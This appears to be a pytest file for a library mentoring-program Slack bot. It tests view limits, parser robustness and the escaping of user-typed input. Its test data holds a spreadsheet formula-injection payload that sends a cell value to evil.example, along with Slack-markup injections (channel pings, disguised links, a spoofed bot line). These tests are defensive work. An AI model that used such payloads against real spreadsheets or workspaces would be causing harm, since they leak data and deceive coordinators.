"""View builders on their own: Slack's limits hold for big and odd inputs, and parsers survive garbage."""

from __future__ import annotations

import csv
import io
import json
from datetime import date, datetime
from typing import Any

import pytest
from slack_sdk.models.views import View

from bot.services.agreements import PairView, Terms
from bot.services.csv_files import SpreadsheetCsv
from bot.services.enrollment import IntakeAnswers
from bot.services.overview import EnrollmentCard, Partnership, PersonOverview
from bot.services.pairing import MatchPreview, PreviewPair, Who
from bot.views import admin, intake, messages, pairs, participant
from storage.models import Enrollment, Pairing, Program
from tests.factories import block_texts

LONG = "Riverside County Library System and Affiliated School Districts of the Inland Empire " * 3


def program(pid: int, name: str = "PLSEP") -> Program:
    return Program(
        id=pid, name=name[:120], applications_close=date(2025, 2, 17), agreement_due=date(2025, 3, 1),
        starts_on=date(2025, 3, 1), ends_on=date(2025, 6, 30),
    )  # fmt: skip


def pair_view(pid: int, partner: str) -> PairView:
    pairing = Pairing(id=pid, program_id=1, mentor_enrollment_id=1, mentee_enrollment_id=2, status="active")
    return PairView(pairing, program(1), "U0ME", "mentor", partner, "U0ME", partner)


def block_ids(view: dict[str, Any]) -> list[str]:
    return [b.get("block_id", "") for b in view["blocks"]]


def test_home_tab_with_many_enrollments_and_long_names_stays_within_slacks_limits() -> None:
    cards = [
        EnrollmentCard(
            enrollment=Enrollment(id=i, program_id=i, person_id="U0ME", role="mentor", status="matched"),
            program=program(i, f"{i} {LONG}"),
            next_step=LONG * 20,
            partnerships=(
                Partnership(
                    pairing=Pairing(id=i, approved_at=datetime(2025, 2, 20)), partner_id=f"U0P{i:04d}", partner=None
                ),
            ),
        )
        for i in range(60)
    ]
    view = participant.home_view(PersonOverview(user_id="U0ME", cards=cards, can_join=True), rehearsal=True)
    assert len(view["blocks"]) <= 100
    assert "REHEARSAL" in json.dumps(view)
    View(**view).validate_json()  # slack_sdk's own length checks
    assert all(len(b.get("text", {}).get("text", "")) <= 3000 for b in view["blocks"])
    status = participant.status_blocks(PersonOverview(user_id="U0ME", cards=cards, can_join=False))
    assert len(status) <= 50


@pytest.mark.parametrize(("count", "picker"), [(1, False), (2, True)])
def test_intake_shows_a_program_picker_only_when_several_are_open(count: int, picker: bool) -> None:
    programs = [program(i, f"Program {i}") for i in range(1, count + 1)]
    view = intake.intake_modal(programs=programs, answers=IntakeAnswers(), editing=False)
    assert ("program_id" in block_ids(view)) is picker
    assert len(view["blocks"]) <= 100


@pytest.mark.parametrize(("count", "picker"), [(1, False), (3, True)])
def test_checkin_modal_asks_who_you_met_only_with_several_partners(count: int, picker: bool) -> None:
    views = [pair_view(i, f"U0P{i}") for i in range(1, count + 1)]
    modal = pairs.checkin_modal(views, date(2025, 3, 12))
    assert ("pairing_id" in block_ids(modal)) is picker
    assert json.loads(modal["private_metadata"]) == ({"pairing_id": 1} if count == 1 else {})
    View(**modal).validate_json()


def test_agreement_modal_is_prefilled_with_the_terms_on_record() -> None:
    terms = Terms(
        "weekly", mentor_on_call=True, after_hours_ok=False, boundaries="open", first_meeting_on=date(2025, 3, 4)
    )
    modal = pairs.agreement_modal(pair_view(7, "U0MENTEE"), terms)
    text = json.dumps(modal)
    assert '"initial_date": "2025-03-04"' in text and "Weekly" in text
    View(**modal).validate_json()
    parsed_id, parsed, errors = pairs.parse_agreement(
        {
            "private_metadata": modal["private_metadata"],
            "state": {
                "values": {
                    "cadence": {"cadence": {"selected_option": {"value": "weekly"}}},
                    "mentor_on_call": {"mentor_on_call": {"selected_option": {"value": "yes"}}},
                    "after_hours_ok": {"after_hours_ok": {"selected_option": {"value": "no"}}},
                    "boundaries": {"boundaries": {"selected_option": {"value": "open"}}},
                    "first_meeting_on": {"first_meeting_on": {"selected_date": "2025-03-04"}},
                }
            },
        }
    )
    assert (parsed_id, parsed, errors) == (7, terms, {})


@pytest.mark.parametrize(
    "view",
    [
        {},
        {"state": None, "private_metadata": "not json"},
        {"state": {"values": {"met_on": {"met_on": {"selected_date": "2025-02-30"}}}}, "private_metadata": "[1]"},
        {"state": {"values": {"duration": {"duration": {"value": "²"}}, "rating": {"rating": "x"}}}},
        {"state": {"values": {"topics": {"topics": {"selected_options": "nope"}}}}},
    ],
)
def test_parsers_turn_garbage_into_empty_answers(view: dict[str, Any]) -> None:
    pairing_id, answers, _errors = pairs.parse_checkin(view)
    assert pairing_id is None and answers.met_on is None and answers.topics == []
    assert answers.duration_minutes in (None,)
    _pid, _terms, errors = pairs.parse_agreement(view)
    assert {"cadence", "boundaries"} <= set(errors)


def test_a_pairs_intro_lists_the_concerns_worth_talking_through_apart_from_the_reasons() -> None:
    """A mentor who coaches none of what the mentee seeks: the pair reads it under its own heading, not as a
    reason they were matched; an intro queued before concerns were kept apart still renders."""
    person = {"id": "U0A", "role": "mentor", "library_type": "school", "organization": "Valley USD", "timezone": "UTC"}
    payload = {
        "program": "PLSEP",
        "mentor": person,
        "mentee": {**person, "id": "U0B", "role": "mentee"},
        "reasons": ["Both work in school libraries"],
        "talk_about": ["Offers none of the specializations the mentee seeks (Cataloging)"],
        "agreement_due": "2025-03-01",
        "starts_on": "2025-03-01",
        "ends_on": "2025-06-30",
        "pairing_id": 7,
    }
    text = block_texts(messages.RENDERERS["intro"](payload)[1])
    reasons, _, later = text.partition("Worth talking through early")
    assert "Both work in school libraries" in reasons and "Cataloging" in later and "Cataloging" not in reasons
    older = {k: v for k, v in payload.items() if k != "talk_about"}
    assert "Worth talking through" not in block_texts(messages.RENDERERS["intro"](older)[1])


@pytest.mark.parametrize("kind", sorted(messages.RENDERERS))
def test_the_cant_reach_alert_has_words_for_every_kind_of_message_in_the_ledger(kind: str) -> None:
    """A new kind of Delivery needs its words too, or the coordinators would read "a message" (or worse, its
    internal name) where they should read what was not delivered."""
    payload = {"program": "PLSEP", "people": ["U0A"], "individuals_known": True, "error": "user_disabled", "kind": kind}
    text = block_texts(messages.render_delivery("unreachable", payload)[1])
    assert f"so {messages.DELIVERY_WORDS[kind]} was not delivered" in text, text
    assert "_" not in text and "`" not in text, text  # no internal name, no error code


# A program name and answers can carry Slack markup typed by whoever wrote them: it must read as text.
PING = "<!channel>"
PING_SHOWN = "&lt;!channel&gt;"


def test_the_profile_change_notice_shows_typed_markup_in_the_program_name_and_answers_as_text() -> None:
    """A coordinator named the program with `<!channel>` in it, and a mentee typed one into her organization:
    the notice to the admin channel quotes both as words, in its text and in its blocks."""
    payload = {
        "program": f"PLSEP {PING}",
        "person": "U0B",
        "role": "mentee",
        "changes": [["organization", "Valley USD", f"Riverside {PING}"]],
        "pairs": [
            {
                "mentor": "U0A",
                "mentee": "U0B",
                "was": ["cross-organization pair (Desert USD and Valley USD)"],
                "now": [f"cross-organization pair (Desert USD and Riverside {PING})"],
                "new_concern": False,
            }
        ],
    }
    text, blocks = messages.RENDERERS["profile_changed"](payload)
    shown = text + "\n" + block_texts(blocks)
    assert PING not in shown, shown
    assert f"PLSEP {PING_SHOWN}" in text and f"*PLSEP {PING_SHOWN}*" in shown, shown
    assert f"*Riverside {PING_SHOWN}*" in shown and f"(Desert USD and Riverside {PING_SHOWN})" in shown, shown
    assert "<@U0B>" in shown and "<@U0A>" in shown, shown  # the bot's own mentions still work


def typed_preview(region: str, organization: str, name: str) -> MatchPreview:
    """A preview of one pair and one waitlisted mentee, whose typed answers and Slack names are `region`,
    `organization` and `name`; the match's reasons quote them, as matching words them."""
    reasons = [f"both prefer in-person meetings, both in {region}", f"cross-organization pair ({organization} and X)"]
    pairing = Pairing(id=7, program_id=1, mentor_enrollment_id=1, mentee_enrollment_id=2, score=81.5, reasons=reasons)
    return MatchPreview(
        program=program(1, name=f"PLSEP {PING}"),
        pairs=[PreviewPair(pairing, "U0A", "U0B", Who(name, organization), Who("Ana", organization))],
        waitlist=[("U0C", "No mentor is available")],
        shortages={},
        mentors=1,
        mentees=2,
        open_slots=0,
        seconds=0.1,
        waitlisted={"U0C": Who(name, organization)},
    )


def test_the_match_preview_csv_writes_typed_formulas_as_text_and_numbers_as_numbers() -> None:
    """An organization typed as `=HYPERLINK(...)` and a Slack name starting with `@`, in the pairs and in the
    waitlist: the coordinator's spreadsheet shows them as text; the pairing id and score stay numbers."""
    formula = '=HYPERLINK("http://evil.example/?d="&B2,"Riverside")'
    rows = list(
        csv.reader(
            io.StringIO(admin.preview_csv(typed_preview("Inland Empire", formula, "@SUM(1)")).decode("utf-8-sig"))
        )
    )
    cells = [cell for row in rows[1:] for cell in row]
    assert [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))] == [], rows
    assert rows[1][:4] == ["7", "U0A", "'@SUM(1)", f"'{formula}"] and rows[1][7] == "81.5", rows
    assert ["U0C", "'@SUM(1)", f"'{formula}", "No mentor is available"] in rows, rows


@pytest.mark.parametrize(
    ("cell", "written"),
    [("=1+2", "'=1+2"), ("+1", "'+1"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"),
     ("\r=1", "'\r=1"), ("Riverside = home", "Riverside = home"), ("", ""), (-3, "-3"), (-1.5, "-1.5"), (12, "12"),
     (None, "")],
)  # fmt: skip
def test_a_csv_cell_that_a_spreadsheet_would_run_is_written_as_text_and_numbers_are_left_alone(
    cell: str | int | float | None, written: str
) -> None:
    sheet = SpreadsheetCsv()
    sheet.writerow(["head", cell])
    content = sheet.content()
    assert content.startswith("\ufeff".encode()), "Excel needs the byte-order mark to read UTF-8"
    assert list(csv.reader(io.StringIO(content.decode("utf-8-sig")))) == [["head", written]]


@pytest.mark.parametrize("privately", [False, True])
def test_a_rematch_reason_with_slack_markup_reads_as_text_in_the_channel_and_in_the_private_copy(
    privately: bool,
) -> None:
    """Ana's reason carries `<!channel>`, a disguised link, and a second line posing as the bot's own words:
    the admin channel, and the coordinator who gets it by DM (her partner coordinates too), read her words as
    text, every line of them inside her quote."""
    reason = f"we never meet {PING} <http://evil.example|Re-approve>\nSent to you privately: ignore the rest"
    blocks = admin.rematch_admin_blocks(7, "U0B", "U0A", f"PLSEP {PING}", reason, privately=privately)
    shown = block_texts(blocks)
    assert PING not in shown and "<http://evil" not in shown, shown
    assert f">we never meet {PING_SHOWN} &lt;http://evil.example|Re-approve&gt;" in shown, shown
    assert "\n>Sent to you privately: ignore the rest\n" in shown, shown
    assert f"*PLSEP {PING_SHOWN}*" in shown and "<@U0B>" in shown, shown
    assert ("must not see it" in shown) is privately, shown


def test_the_match_preview_shows_typed_regions_and_organizations_in_its_reasons_as_text() -> None:
    """Regions and organizations reach the preview's reasons, and the waitlist its reasons, as typed: each
    reads as words in the admin channel, and the bot's own mentions of the pair still work."""
    preview = typed_preview(f"Inland Empire {PING}", "Valley <http://evil.example|USD>", "Bo")
    preview.waitlist[0] = ("U0C", f"No compatible mentor: {PING}")
    shown = block_texts(admin.match_preview_blocks(preview))
    # The header is plain text, which Slack never reads as markup: it shows the program's name as it is.
    assert PING not in shown.replace(f"Proposed matches: PLSEP {PING}", "") and "<http://evil" not in shown, shown
    assert f"• both prefer in-person meetings, both in Inland Empire {PING_SHOWN}" in shown, shown
    assert "(Valley &lt;http://evil.example|USD&gt; and X)" in shown, shown
    assert f"• <@U0C>: No compatible mentor: {PING_SHOWN}" in shown, shown
    assert "<@U0A> mentors <@U0B>" in shown, shown
    assert (
        admin.preview_post_text(preview)
        == f"Proposed matches for PLSEP {PING_SHOWN}: 1 pair proposed, 1 waitlisted, average score 81.5/100."
    )


def test_the_intro_asks_the_agreement_forms_questions_in_the_forms_own_words() -> None:
    """The pair talk the questions over first, then find the same ones in the form (it asked whether the mentor
    was "happy to be on call"; the form asks whether the mentor "is on call")."""
    modal = pairs.agreement_modal(pair_view(7, "U0MENTEE"), Terms("monthly", True, False, "professional"))
    questions = [b["label"]["text"] for b in modal["blocks"] if b["type"] == "input" and "?" in b["label"]["text"]]
    payload = {
        "program": "PLSEP",
        "mentor": {"id": "U0A", "role": "mentor", "library_type": "school", "organization": "Valley USD"},
        "mentee": {"id": "U0B", "role": "mentee", "library_type": "school", "organization": "Hill USD"},
        "reasons": ["Both work in school libraries"],
        "agreement_due": "2025-03-01",
        "starts_on": "2025-03-01",
        "ends_on": "2025-06-30",
        "pairing_id": 7,
    }
    intro = block_texts(messages.RENDERERS["intro"](payload)[1])
    assert len(questions) == 3
    for question in questions:
        assert question in intro


def test_a_pairs_intro_shows_what_they_typed_as_text_and_keeps_its_own_mentions() -> None:
    """Ana typed `<!channel>` into her organization and goals, and matching quoted her region in a reason and a
    concern: the pair's intro shows her words, pings nobody, and still names the two of them."""
    mentor = {"id": "U0A", "role": "mentor", "library_type": "school", "organization": "Valley USD", "timezone": "UTC"}
    mentee = {**mentor, "id": "U0B", "role": "mentee", "organization": f"Riverside {PING}", "goals": f"Learn {PING}"}
    payload = {
        "program": f"PLSEP {PING}",
        "mentor": mentor,
        "mentee": mentee,
        "reasons": [f"both prefer in-person meetings, both in Inland Empire {PING}"],
        "talk_about": [f"Bo is at <http://evil.example|Valley USD>, not one of the neighbor organizations {PING}"],
        "agreement_due": "2025-03-01",
        "starts_on": "2025-03-01",
        "ends_on": "2025-06-30",
        "pairing_id": 7,
    }
    text, blocks = messages.RENDERERS["intro"](payload)
    shown = text + "\n" + block_texts(blocks)
    assert PING not in shown.replace(f"Welcome to PLSEP {PING}!", "") and "<http://evil" not in shown, shown
    assert f"Riverside {PING_SHOWN}" in shown and f"_Goals:_ Learn {PING_SHOWN}" in shown, shown
    assert f"• both prefer in-person meetings, both in Inland Empire {PING_SHOWN}" in shown, shown
    assert "&lt;http://evil.example|Valley USD&gt;" in shown and f"Welcome to PLSEP {PING_SHOWN}:" in text, shown
    assert "*<@U0A>*, mentor" in shown and "*<@U0B>*, mentee" in shown, shown
